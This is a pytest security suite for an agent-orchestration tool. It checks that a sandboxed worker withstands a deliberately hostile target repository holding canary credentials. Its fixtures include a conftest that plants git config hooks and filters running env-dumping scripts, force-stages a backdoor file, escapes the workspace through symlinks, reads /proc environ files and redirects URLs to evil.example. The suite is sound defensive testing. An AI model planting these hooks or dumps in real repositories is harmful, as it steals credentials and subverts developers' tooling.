"""A deliberately hostile target repository, attempted for real (the local executor runs ``python -m
worker``), with canary credentials in the orchestrator's environment.

Each case ends with: nothing written outside the workspace, nothing outside the allowed paths in the
pushed branch, no canary (raw, hex or base64: redaction must not be what hides it) in any file under the
home, the outside directories or the output, and the attempt recorded with the right failure type.
"""

from __future__ import annotations

import base64
import os
import socket
import subprocess
import sys
import textwrap
import time
import uuid
from pathlib import Path

import pytest
from support import Project, backlog_yaml, docs_task, make_project

from leviathan_dagster.core.executors.base import AttemptSpec
from leviathan_dagster.core.executors.local import LocalExecutor
from leviathan_dagster.core.git import commands as gitutil
from leviathan_dagster.core.git.hardening import RepositoryTampered
from leviathan_dagster.core.home import LeviathanHome

PY = sys.executable
CANARIES = {
    "GITHUB_TOKEN": "canary-github-token-5d1c0e7a",
    "LEVIATHAN_CLAUDE_API_KEY": "canary-claude-key-93b7f2aa",
    "AWS_SECRET_ACCESS_KEY": "canary-aws-secret-0c4d8e11",
}
TASK = docs_task("guide", allowed_paths=["docs/guide.md"])
ALLOWED_IN_BRANCH = {"docs/guide.md", ".leviathan/backlog.yaml"}


def canary_forms() -> list[bytes]:
    forms = []
    for value in CANARIES.values():
        raw = value.encode()
        forms += [raw, raw.hex().encode(), base64.b64encode(raw).rstrip(b"=")]
    return forms


@pytest.fixture
def world(tmp_path: Path, monkeypatch) -> dict[str, Path]:
    """The orchestrator's environment holds the canaries; ``outside`` and ``home`` are host directories
    the target must never write to (``victim.txt`` is what a symlink points at)."""
    for name, value in CANARIES.items():
        monkeypatch.setenv(name, value)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim.txt").write_text("original\n")
    orchestrator_home = tmp_path / "orchestrator-home"
    orchestrator_home.mkdir()
    monkeypatch.setenv("HOME", str(orchestrator_home))
    return {"outside": outside, "home": orchestrator_home, "root": tmp_path / "project"}


def hostile_project(root: Path, files: dict[str, str], links: dict[str, str] = (), **target) -> Project:
    """A local-forge target whose main branch holds ``files`` and the committed symlinks ``links``."""
    project = make_project(
        root, {"site": {"policy": {"allowed_path_prefixes": [".leviathan/", "docs/"]}, **target}}
    )
    bare = project.repo("site")
    gitutil.init_bare(bare)
    work = root / "author"
    gitutil.run_git(["init", "-q", "-b", "main", str(work)])
    for name, text in {".leviathan/backlog.yaml": backlog_yaml(TASK), **files}.items():
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        (work / name).write_text(text)
    for name, points_to in dict(links).items():
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(points_to, work / name)
    gitutil.commit_all(work, "hostile target")
    gitutil.push(work, str(bare), "HEAD:refs/heads/main")
    return project


def attempt(project: Project, attempt_id: str = "attempt-h1") -> tuple[str, dict]:
    """Run one attempt through the local executor; (its output, the attempt's last event payload)."""
    spec = AttemptSpec(
        target=project.target("site"),
        task_id="guide",
        attempt_id=attempt_id,
        attempt_number=1,
        config_path=project.config_path,
        home=LeviathanHome(project.home.root),
    )
    result = LocalExecutor().run(spec)
    [ended] = [
        e
        for e in project.events().read()
        if e.event_type in ("attempt.succeeded", "attempt.failed") and e.payload["attempt_id"] == attempt_id
    ]
    return result.log_tail, {"event_type": ended.event_type, **ended.payload}


def assert_contained(project: Project, world: dict[str, Path], output: str) -> None:
    """Nothing written outside, no canary anywhere, nothing out of scope in any pushed branch."""
    assert sorted(p.name for p in world["outside"].iterdir()) == ["victim.txt"]
    assert (world["outside"] / "victim.txt").read_text() == "original\n"
    assert list(world["home"].iterdir()) == []
    history = subprocess.run(
        ["git", "log", "-p", "--all", "--format=%H %B"],
        cwd=project.repo("site"),
        capture_output=True,
        check=True,
    ).stdout
    haystacks = {"output": output.encode(), "pushed history": history}
    for path in [*project.home.root.rglob("*"), *world["outside"].rglob("*")]:
        if path.is_file() and not path.is_symlink():
            haystacks[str(path)] = path.read_bytes()
    for where, data in haystacks.items():
        for form in canary_forms():
            assert form not in data, f"canary {form!r} found in {where}"
    for branch in project.branches("site"):
        if branch != "main":
            changed = subprocess.run(
                ["git", "diff", "--name-only", "main", branch],
                cwd=project.repo("site"),
                capture_output=True,
                text=True,
            ).stdout.split()
            assert set(changed) <= ALLOWED_IN_BRANCH, changed


@pytest.mark.parametrize(
    ("links", "what"),
    [
        ({"docs/guide.md": "{outside}/victim.txt"}, "absolute file symlink out of the workspace"),
        (
            {"docs/guide.md": "../../../../../outside/victim.txt"},
            "relative file symlink out of the workspace",
        ),
        ({"docs": "{outside}"}, "absolute directory symlink out of the workspace"),
        ({"docs": "../../../../outside"}, "relative directory symlink out of the workspace"),
        ({"docs/guide.md": "../.git/config"}, "file symlink into .git"),
        ({"docs": ".git/hooks"}, "directory symlink into .git"),
    ],
)
def test_generator_never_writes_through_a_committed_symlink(world, links: dict[str, str], what: str) -> None:
    # The workspace is <home>/workspaces/<attempt>; ../../../outside climbs out to the test's outside dir.
    links = {name: target.format(outside=world["outside"]) for name, target in links.items()}
    project = hostile_project(world["root"], {"README.md": "# hostile\n"}, links)
    output, ended = attempt(project)
    assert ended["event_type"] == "attempt.failed", what
    assert ended["failure_type"] == "policy_violation", (what, ended["error_summary"])
    assert "symlink" in ended["error_summary"]
    assert project.branches("site") == ["main"]
    assert_contained(project, world, output)


def test_relative_links_really_point_at_the_outside_directory(world) -> None:
    # Guards the parametrization above: the workspace is <root>/home/workspaces/<attempt>, so these
    # relative targets resolve to the test's outside directory: those cases are real escapes.
    workspace = world["root"] / "home" / "workspaces" / "attempt-h1"
    outside = world["outside"].resolve()
    assert (workspace / "docs" / "../../../../../outside/victim.txt").resolve() == outside / "victim.txt"
    assert (workspace / "../../../../outside").resolve() == outside


CONFTEST = """\
import os, pathlib, subprocess

PWNED = {pwned!r}


def _try(*command):
    try:
        subprocess.run(command, capture_output=True, timeout=20)
    except Exception:
        pass


def _write(path, text, mode=0o644):
    try:
        pathlib.Path(path).parent.mkdir(parents=True, exist_ok=True)
        pathlib.Path(path).write_text(text)
        os.chmod(path, mode)
    except OSError:
        pass


def pytest_configure(config):
    # Smuggle a file into the pull request: write it and stage it.
    _write("src/backdoor.py", "OWNED = True\\n")
    _try("git", "add", "-f", "src/backdoor.py")
    # Rewrite the change that passed the policy check.
    _write("docs/guide.md", "replaced after the check\\n")
    # Program the worker's later git commands: a script that dumps its environment, planted as
    # fsmonitor, as a hooks directory, as a clean filter and as an upload-pack.
    script = PWNED + "/dump.sh"
    _write(script, "#!/bin/sh\\nenv > " + PWNED + "/env-$$.txt\\n", 0o755)
    for hook in ("pre-commit", "post-checkout", "pre-push", "reference-transaction"):
        _write(PWNED + "/hooks/" + hook, "#!/bin/sh\\nenv > " + PWNED + "/hook-$$.txt\\n", 0o755)
    _try("git", "config", "core.fsmonitor", script)
    _try("git", "config", "core.hooksPath", PWNED + "/hooks")
    _try("git", "config", "filter.pwn.clean", script)
    _try("git", "config", "filter.pwn.smudge", script)
    _try("git", "config", "remote.origin.receivepack", script)
    _write(".gitattributes", "* filter=pwn\\n")
    _write(".git/hooks/pre-commit", "#!/bin/sh\\nenv > " + PWNED + "/githook-$$.txt\\n", 0o755)
"""


def test_conftest_cannot_stage_files_plant_git_config_or_rewrite_the_checked_change(world) -> None:
    pwned = world["outside"] / "pwned"
    files = {
        "conftest.py": CONFTEST.format(pwned=str(pwned)),
        "tests/test_ok.py": "def test_ok():\n    assert True\n",
    }
    project = hostile_project(
        world["root"], files, test_command=[PY, "-m", "pytest", "-q", "-p", "no:cacheprovider", "tests"]
    )
    output, ended = attempt(project)
    # The tampering failed or was thrown away; the tests themselves pass, so the attempt succeeds with
    # exactly the checked change.
    assert ended["event_type"] == "attempt.succeeded", ended
    branch = ended["branch_name"]
    changed = subprocess.run(
        ["git", "diff", "--name-only", "main", branch],
        cwd=project.repo("site"),
        capture_output=True,
        text=True,
    ).stdout.split()
    assert sorted(changed) == sorted(ALLOWED_IN_BRANCH)
    assert "replaced after the check" not in project.show("site", branch, "docs/guide.md")
    assert "# Write guide" in project.show("site", branch, "docs/guide.md")
    assert not pwned.exists(), sorted(p.name for p in pwned.rglob("*"))
    assert_contained(project, world, output)


PROBE = """\
import binascii, glob, socket, subprocess, sys
for path in sorted(glob.glob("/proc/[0-9]*/environ")):
    try:
        print("ENVIRON", path, binascii.hexlify(open(path, "rb").read()).decode())
    except OSError as exc:
        print("unreadable", path, exc)
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"leak")
    print("NETWORK-REACHED")
except OSError as exc:
    print("no network:", exc)
subprocess.Popen(
    [sys.executable, "-c", "import time; time.sleep(60)", {mark!r}],
    start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
print("forked a survivor")
"""


def processes_with(mark: str) -> list[int]:
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if mark.encode() in cmdline.read_bytes():
                found.append(int(cmdline.parent.name))
        except OSError:
            continue
    return found


def test_test_command_reads_no_credential_reaches_no_network_and_leaves_no_survivor(world) -> None:
    mark = f"SURVIVOR-{uuid.uuid4().hex}"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    try:
        project = hostile_project(
            world["root"], {}, test_command=[PY, "-c", PROBE.format(port=port, mark=mark)]
        )
        output, ended = attempt(project)
        assert ended["event_type"] == "attempt.succeeded", ended
        log = (project.home.artifacts_dir("attempt-h1") / "tests.log").read_text()
        assert "ENVIRON" in log and "forked a survivor" in log  # the probe really ran
        assert "NETWORK-REACHED" not in log
        with pytest.raises(BlockingIOError):
            listener.accept()
        deadline = time.monotonic() + 5
        while processes_with(mark) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert processes_with(mark) == []
        assert_contained(project, world, output)
    finally:
        listener.close()
        for pid in processes_with(mark):
            os.kill(pid, 9)


def planted_script(root: Path) -> tuple[Path, Path]:
    """(``root/pwned``, a script there that leaves a file in it when anything runs it, then cats)."""
    pwned = root / "pwned"
    pwned.mkdir()
    script = pwned / "dump.sh"
    script.write_text(f"#!/bin/sh\nenv > {pwned}/ran-$$.txt\ncat\n")
    script.chmod(0o755)
    return pwned, script


def test_git_ignores_planted_repository_config(tmp_path: Path, monkeypatch) -> None:
    """Without the sandbox in the way: config that names programs never runs in the harness's git."""
    for name, value in CANARIES.items():
        monkeypatch.setenv(name, value)
    pwned, script = planted_script(tmp_path)
    hooks = pwned / "hooks"
    hooks.mkdir()
    for hook in ("pre-commit", "post-commit", "post-checkout", "reference-transaction", "pre-push"):
        (hooks / hook).write_text(f"#!/bin/sh\nenv > {pwned}/hook-$$.txt\n")
        (hooks / hook).chmod(0o755)
    repo = tmp_path / "repo"
    gitutil.run_git(["init", "-q", "-b", "main", str(repo)])
    (repo / "a.txt").write_text("a\n")
    (repo / ".gitattributes").write_text("* filter=pwn diff=pwn\n")
    for key, value in [
        ("core.fsmonitor", str(script)),
        ("core.hooksPath", str(hooks)),
        ("filter.pwn.clean", str(script)),
        ("filter.pwn.smudge", str(script)),
        ("filter.pwn.process", str(script)),
        ("diff.pwn.textconv", str(script)),
        ("diff.pwn.command", str(script)),
        ("diff.external", str(script)),
        ("core.pager", str(script)),
        ("credential.helper", f"!{script}"),
    ]:
        subprocess.run(["git", "config", key, value], cwd=repo, check=True)
    (repo / ".git" / "hooks" / "pre-commit").write_text(f"#!/bin/sh\nenv > {pwned}/githook-$$.txt\n")
    (repo / ".git" / "hooks" / "pre-commit").chmod(0o755)
    bare = gitutil.init_bare(tmp_path / "remote.git")

    gitutil.run_git(["status", "--porcelain"], cwd=repo)
    gitutil.run_git(["add", "--all"], cwd=repo)
    gitutil.run_git(["commit", "-q", "-m", "one"], cwd=repo)
    gitutil.run_git(["diff", "HEAD~0", "--stat"], cwd=repo)
    gitutil.run_git(["log", "-p", "-1", "--no-ext-diff", "--no-textconv"], cwd=repo)  # as the harness does
    # A diff that would need the planted driver fails loudly instead of running it.
    with pytest.raises(gitutil.GitError, match="cannot run"):
        gitutil.run_git(["log", "-p", "-1"], cwd=repo)
    gitutil.run_git(["checkout", "-q", "-b", "other"], cwd=repo)
    gitutil.push(repo, str(bare), "HEAD:refs/heads/other")
    assert sorted(p.name for p in pwned.iterdir()) == ["dump.sh", "hooks"]


def test_git_refuses_a_repository_whose_config_rewrites_urls(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    gitutil.run_git(["init", "-q", "-b", "main", str(repo)])
    subprocess.run(
        ["git", "config", "url.https://evil.example/.insteadOf", "https://github.com/"], cwd=repo, check=True
    )
    with pytest.raises(RepositoryTampered, match="refusing repository-local setting"):
        gitutil.run_git(["status"], cwd=repo)


def test_the_worker_never_inherits_the_orchestrators_environment(world, tmp_path: Path) -> None:
    from leviathan_dagster.core.executors.base import worker_process_environment

    project = hostile_project(world["root"], {})
    spec = AttemptSpec(project.target("site"), "guide", "a1", 1, project.config_path, project.home)
    env = worker_process_environment(spec)
    assert "GITHUB_TOKEN" not in env and "AWS_SECRET_ACCESS_KEY" not in env  # the local forge uses neither
    assert env["LEVIATHAN_CLAUDE_API_KEY"] == CANARIES["LEVIATHAN_CLAUDE_API_KEY"]  # the worker's own key
    assert env["TASK_ID"] == "guide"


def test_a_secret_the_target_references_reaches_its_worker_only(world, tmp_path: Path) -> None:
    from leviathan_dagster.core.executors.base import worker_process_environment

    project = hostile_project(world["root"], {}, secrets={"github_token": {"env": "GITHUB_TOKEN"}})
    spec = AttemptSpec(project.target("site"), "guide", "a1", 1, project.config_path, project.home)
    env = worker_process_environment(spec)
    assert env["GITHUB_TOKEN"] == CANARIES["GITHUB_TOKEN"] and "AWS_SECRET_ACCESS_KEY" not in env


def test_no_sandbox_fails_the_attempt_as_executor_error_and_never_runs_the_tests(world, monkeypatch) -> None:
    monkeypatch.setenv("LEVIATHAN_BWRAP", str(world["root"].parent / "no-such-bwrap"))
    ran = world["outside"] / "ran"
    project = hostile_project(
        world["root"], {}, test_command=[PY, "-c", f"open({str(ran)!r}, 'w').write('unsandboxed')"]
    )
    output, ended = attempt(project)
    assert ended["failure_type"] == "executor_error"
    assert "bubblewrap (bwrap) is not installed" in ended["error_summary"]
    assert "apt-get install bubblewrap" in ended["error_summary"]
    assert not ran.exists()
    assert project.branches("site") == ["main"]


def test_probe_script_is_valid_python() -> None:
    compile(PROBE.format(port=1, mark="m"), "probe", "exec")
    compile(textwrap.dedent(CONFTEST.format(pwned="/x")), "conftest", "exec")


LEAKY_FAILING_PROBE = """\
import binascii, glob, sys
print("about to fail")
for path in sorted(glob.glob("/proc/[0-9]*/environ")):
    try:
        print("ENVIRON", binascii.hexlify(open(path, "rb").read()).decode())
    except OSError:
        pass
sys.exit(1)
"""


@pytest.mark.dagster
def test_through_dagster_no_canary_reaches_its_storage(world, tmp_path: Path) -> None:
    """The failing test command's output is in the failure summary: the event, the run's failure, the
    asset metadata. Nothing it could read holds a credential, so Dagster's storage holds none either."""
    import dagster as dg

    from leviathan_dagster.cli.dagster_cycle import run_cycle
    from leviathan_dagster.defs.platform.resources import LeviathanResource

    project = hostile_project(world["root"], {}, test_command=[PY, "-c", LEAKY_FAILING_PROBE])
    storage = tmp_path / "dagster"
    storage.mkdir()
    resource = LeviathanResource(config_path=str(project.config_path), home=str(project.home.root))
    printed: list[str] = []
    with dg.instance_for_test(temp_dir=str(storage)) as instance:
        report = run_cycle(instance, resource, echo=printed.append)
        [(_, _, ok)] = report.launched
        assert not ok
    [failed] = [e for e in project.events().read() if e.event_type == "attempt.failed"]
    assert failed.payload["failure_type"] == "tests_failed"
    assert (
        "about to fail"
        in (project.home.artifacts_dir(failed.payload["attempt_id"]) / "tests.log").read_text()
    )
    assert_contained(project, world, "\n".join(printed))
    for path in storage.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            for form in canary_forms():
                assert form not in data, f"canary {form!r} in Dagster storage {path}"


def test_a_gateway_that_echoes_the_claude_key_gets_it_stored_nowhere(tmp_path: Path) -> None:
    """Issue 9's fourth finding: an Anthropic-compatible endpoint echoing the key in its error message.
    The key has no recognisable shape here, so only redaction by value can catch it."""
    from anthropic_double import AnthropicDouble, Status
    from support import run_worker

    key = f"gateway-canary-{uuid.uuid4().hex}"
    task = {**docs_task("guide", allowed_paths=["docs/guide.md"]), "generator": "claude"}
    project = make_project(
        tmp_path,
        {
            "site": {
                "files": {".leviathan/backlog.yaml": backlog_yaml(task)},
                "policy": {"allowed_path_prefixes": ["docs/"]},
            }
        },
    )
    with AnthropicDouble([Status(400, message=f"bad request from key {key}")], api_key=key) as api:
        proc = run_worker(
            project,
            "site",
            "guide",
            "attempt-echo",
            LEVIATHAN_CLAUDE_API_KEY=key,
            LEVIATHAN_CLAUDE_MODEL="claude-sonnet-4-6",
            LEVIATHAN_CLAUDE_BASE_URL=api.base_url,
        )
    [failed] = [e for e in project.events().read() if e.event_type == "attempt.failed"]
    assert "bad request from key ***" in failed.payload["error_summary"], failed.payload
    assert key not in proc.stdout + proc.stderr
    for path in project.home.root.rglob("*"):
        if path.is_file():
            assert key.encode() not in path.read_bytes(), path


def test_the_claude_tool_runs_the_test_command_in_the_sandbox(tmp_path: Path) -> None:
    from leviathan_dagster.core.generators.claude.tools import ScopedWorkspace

    root = tmp_path / "ws"
    (root / "lib").mkdir(parents=True)
    (root / "lib" / "x.py").write_text("X = 1\n")
    gitutil.run_git(["init", "-q", "-b", "main", str(root)])
    scoped = ScopedWorkspace(root, ("lib/x.py",), ("lib/",))
    key = CANARIES["LEVIATHAN_CLAUDE_API_KEY"]
    probe = "import os; print('key:', os.environ.get('LEVIATHAN_CLAUDE_API_KEY')); open('README.md', 'w')"
    run = scoped.run_tests((PY, "-c", probe), {"LEVIATHAN_CLAUDE_API_KEY": key}, 30)
    assert run.exit_code == 1 and "key: None" in run.output and "Read-only file system" in run.output
    assert not (root / "README.md").exists()


def test_what_is_staged_or_written_after_the_check_never_reaches_the_commit(tmp_path: Path) -> None:
    """Without the sandbox in the way (a tool running in the worker itself): the checked tree wins."""
    from leviathan_dagster.core.attempts.path_policy import list_changed_paths
    from leviathan_dagster.core.errors import PolicyViolation
    from worker import checked_commit

    repo = tmp_path / "repo"
    gitutil.run_git(["init", "-q", "-b", "main", str(repo)])
    (repo / "docs").mkdir()
    (repo / "docs" / "guide.md").write_text("old\n")
    base = gitutil.commit_all(repo, "base")
    (repo / "docs" / "guide.md").write_text("checked\n")
    list_changed_paths(repo)  # stages the worktree, as the policy check does
    checked = checked_commit.write_tree(repo)
    checked_index = checked_commit.index_digest(repo)
    # After the check: a backdoor written and force-staged, the checked file rewritten, a stray cache.
    (repo / "src").mkdir()
    (repo / "src" / "backdoor.py").write_text("OWNED = True\n")
    gitutil.run_git(["add", "-f", "src/backdoor.py"], cwd=repo)
    (repo / "docs" / "guide.md").write_text("replaced\n")
    (repo / ".cache").write_text("x")
    left = checked_commit.discard_unchecked(repo, checked, checked_index=checked_index)
    assert left.paths == [".cache", "docs/guide.md", "src/backdoor.py"] and left.head == base
    assert (repo / "docs" / "guide.md").read_text() == "checked\n" and not (repo / "src").exists()
    assert checked_commit.verify_commit_scope(repo, checked, extra=[]) == checked
    # And should anything be staged between the reset and the commit, the commit is refused.
    (repo / "src").mkdir()
    (repo / "src" / "late.py").write_text("x\n")
    gitutil.run_git(["add", "-f", "src/late.py"], cwd=repo)
    with pytest.raises(PolicyViolation, match="src/late.py"):
        checked_commit.verify_commit_scope(repo, checked, extra=[])


@pytest.mark.parametrize("how", ["staged", "staged then removed", "deleted", "ignored", "untracked"])
def test_an_index_or_worktree_changed_after_the_check_is_always_seen(tmp_path: Path, how: str) -> None:
    """Each kind of leftover alone is found (the unchanged-index shortcut and the one status call must
    not hide any), and what is left is exactly the checked tree."""
    from worker import checked_commit

    repo = tmp_path / "repo"
    gitutil.run_git(["init", "-q", "-b", "main", str(repo)])
    (repo / ".gitignore").write_text("*.log\n")
    (repo / "kept.md").write_text("kept\n")
    gitutil.commit_all(repo, "base")
    gitutil.run_git(["add", "-A"], cwd=repo)
    checked = checked_commit.write_tree(repo)
    checked_index = checked_commit.index_digest(repo)
    if how.startswith("staged"):  # worktree and index agree: only comparing with the check shows it
        (repo / "sneaky.py").write_text("x\n")
        gitutil.run_git(["add", "sneaky.py"], cwd=repo)
        if how == "staged then removed":
            (repo / "sneaky.py").unlink()
        expected = ["sneaky.py"]
    elif how == "deleted":
        (repo / "kept.md").unlink()
        expected = ["kept.md"]
    elif how == "ignored":
        (repo / "sub").mkdir()
        (repo / "sub" / "run.log").write_text("x\n")
        expected = ["sub/run.log"]
    else:
        (repo / "new.txt").write_text("x\n")
        expected = ["new.txt"]
    assert checked_commit.discard_unchecked(repo, checked, checked_index=checked_index).paths == expected
    assert checked_commit.discard_unchecked(repo, checked, checked_index=None).paths == []
    assert checked_commit.verify_commit_scope(repo, checked, extra=[]) == checked
    assert (repo / "kept.md").read_text() == "kept\n"


def test_git_config_planted_after_a_scan_is_still_neutralised(tmp_path: Path) -> None:
    """The hardening scan is remembered by the config file's bytes: a setting planted after a scan
    (its old mtime put back, too) is a new file, scanned again before git runs."""
    import os

    from leviathan_dagster.core.git import hardening as git_hardening

    pwned, script = planted_script(tmp_path)
    repo = tmp_path / "repo"
    gitutil.run_git(["init", "-q", "-b", "main", str(repo)])
    config = repo / ".git" / "config"
    gitutil.run_git(["status"], cwd=repo)  # scanned, and remembered
    assert git_hardening._scan_key(repo) in git_hardening._SCANNED
    stat = config.stat()
    subprocess.run(["git", "config", "filter.pwn.clean", str(script)], cwd=repo, check=True)
    os.utime(config, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    (repo / ".gitattributes").write_text("* filter=pwn\n")
    (repo / "a.txt").write_text("a\n")
    gitutil.run_git(["add", "--all"], cwd=repo)
    gitutil.commit_all(repo, "one")
    assert sorted(p.name for p in pwned.iterdir()) == ["dump.sh"]
    # And a refused setting planted after a scan is refused.
    subprocess.run(
        ["git", "config", "url.https://evil.example/.insteadOf", "https://x/"], cwd=repo, check=True
    )
    with pytest.raises(RepositoryTampered):
        gitutil.run_git(["status"], cwd=repo)


def test_git_dirs_git_might_not_read_as_scanned_are_scanned_every_time(tmp_path: Path) -> None:
    from leviathan_dagster.core.git import hardening as git_hardening

    repo = tmp_path / "repo"
    gitutil.run_git(["init", "-q", "-b", "main", str(repo)])
    assert git_hardening._scan_key(repo) is not None
    bare = gitutil.init_bare(tmp_path / "bare.git")
    assert git_hardening._scan_key(bare) is not None  # a bare repository: its own config
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / ".git").write_text(f"gitdir: {repo / '.git'}\n")  # a gitfile
    (tmp_path / "worktree").mkdir()
    os_symlink = tmp_path / "symlinked"
    os_symlink.mkdir()
    (os_symlink / ".git").symlink_to(repo / ".git")
    (repo / ".git" / "HEAD").write_text("garbage\n")  # not a git directory to git: it would walk up
    for path in (linked, os_symlink, repo, tmp_path / "worktree"):
        assert git_hardening._scan_key(path) is None, path
